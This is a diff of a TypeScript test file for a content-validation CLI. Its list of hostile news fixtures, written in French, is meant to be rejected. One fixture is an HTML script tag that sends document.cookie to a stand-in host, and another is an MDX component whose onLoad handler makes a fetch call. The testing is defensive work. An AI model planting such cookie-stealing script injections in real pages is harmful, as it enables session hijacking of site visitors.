@@ -14,7 +14,7 @@ import { fixture, makeTree, runCli, TODAY, type CliResult } from '../helpers/tre
 
 const NEWS = fixture('valide', 'content/news/lancement-portail.md');
 const FUNDER = fixture('valide', 'content/funders/fondation-solidarite.yaml');
-const [, HEAD, BODY] = /^(---\n[\s\S]*?\n---\n)([\s\S]*)$/.exec(NEWS)!;
+const [, HEAD] = /^(---\n[\s\S]*?\n---\n)([\s\S]*)$/.exec(NEWS)!;
 /** A valid news entry whose id is the file name, with `body` as its text. */
 const news = (id: string, body: string): string =>
   `${HEAD!.replace('id: lancement-portail', `id: ${id}`).replace(/ressources_liees:\n.*\n/, '')}\n${body}\n`;
@@ -44,7 +44,10 @@ const HOSTILE: Record<string, string | Uint8Array> = {
   'content/news/front-matter-toml.md': '+++\ntitre = "Actualité"\n+++\nTexte\n',
   'content/news/sans-en-tete.md': '# Une actualité\n\nSans en-tête.\n',
   'content/news/en-tete-ouvert.md': '---\nid: en-tete-ouvert\ntitre: Actualité\n\nLe texte sans fin d’en-tête.\n',
-  'content/news/composant.mdx': `${news('composant', 'import Evil from "./evil";\n\n<Evil onLoad={() => fetch("https://x.example.org")} />')}`,
+  'content/news/composant.mdx': news(
+    'composant',
+    'import Evil from "./evil";\n\n<Evil onLoad={() => fetch("https://x.example.org")} />',
+  ),
   'content/news/script.md': news(
     'script',
     'Bonjour.\n\n<script>fetch("https://x.example.org/?c=" + document.cookie)</script>',
